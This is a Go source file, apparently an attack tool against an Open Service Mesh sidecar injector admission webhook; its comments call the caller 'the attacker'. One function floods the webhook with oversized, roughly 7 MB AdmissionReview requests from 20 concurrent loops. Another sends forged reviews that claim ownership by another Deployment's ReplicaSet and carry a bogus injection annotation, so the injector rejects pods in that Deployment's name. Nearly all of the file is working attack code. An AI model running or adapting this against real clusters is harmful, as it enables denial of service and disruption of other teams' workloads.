package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/sync/errgroup"
)

const (
	floodConnections = 4
	floodRequests    = 20
	// reviewLimit is the most that an API server sends: webhooks take no more.
	reviewLimit = 7 << 20
)

// client verifies the server with the certificates of ca, PEM in base64: the
// attacker wants to be sure whom it attacks.
func client(ca string, connections int) (*http.Client, error) {
	pem, err := base64.StdEncoding.DecodeString(ca)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(pem) {
		return nil, fmt.Errorf("no certificate in %d bytes", len(pem))
	}
	return &http.Client{Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12},
		MaxConnsPerHost: connections,
	}}, nil
}

func podReview(namespace, owner, pod string) string {
	return `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u","kind":{"group":"","version":"v1","kind":"Pod"},` +
		`"resource":{"group":"","version":"v1","resource":"pods"},"namespace":"` + namespace + `","operation":"CREATE","object":` +
		`{"apiVersion":"v1","kind":"Pod","metadata":{"generateName":"a-","namespace":"` + namespace + `"` + owner + `},"spec":` + pod + `}}}`
}

// flood prints how the requests were answered.
func flood(ctx context.Context, url, ca string, d time.Duration) error {
	client, err := client(ca, floodConnections)
	if err != nil {
		return err
	}
	body := podReview("bookstore", "", `{"containers":[{}`+strings.Repeat(`,{}`, (reviewLimit-1000)/3)+`]}`)
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	var mu sync.Mutex
	answers := map[string]int{}
	var group errgroup.Group
	for range floodRequests {
		group.Go(func() error {
			for ctx.Err() == nil {
				answer := "error"
				if status, _, err := post(ctx, client, url, body); err == nil {
					answer = fmt.Sprint(status)
				}
				mu.Lock()
				answers[answer]++
				mu.Unlock()
			}
			return nil
		})
	}
	if err := group.Wait(); err != nil {
		return err
	}
	fmt.Println("answers by status:", answers)
	return nil
}

// review has the injector refuse pods, in the name of another's Deployment.
func review(ctx context.Context, url, ca string, number int) error {
	client, err := client(ca, 1)
	if err != nil {
		return err
	}
	const owner = `,"annotations":{"openservicemesh.io/sidecar-injection":"CLICK-HERE"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"bookstore-v2","uid":"0","controller":true}]`
	for range number {
		status, answer, err := post(ctx, client, url, podReview("bookstore", owner, `{"containers":[{"name":"a","image":"a"}]}`))
		if err != nil {
			return err
		}
		fmt.Println(status, answer)
	}
	return nil
}

func post(ctx context.Context, client *http.Client, url, body string) (int, string, error) {
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(body))
	if err != nil {
		return 0, "", err
	}
	request.Header.Set("Content-Type", "application/json")
	response, err := client.Do(request)
	if err != nil {
		return 0, "", err
	}
	defer response.Body.Close()
	answer, err := io.ReadAll(io.LimitReader(response.Body, maxAnswer))
	return response.StatusCode, string(answer), err
}
